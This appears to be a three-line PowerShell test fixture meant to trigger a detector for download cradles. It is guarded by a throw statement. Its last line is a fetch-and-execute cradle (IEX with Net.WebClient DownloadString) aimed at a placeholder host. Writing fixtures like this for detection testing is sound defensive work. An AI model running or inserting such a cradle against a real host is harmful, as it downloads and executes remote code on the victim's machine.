# Trips powershell_download_cradle.
throw "a fixture: never run"
IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/')
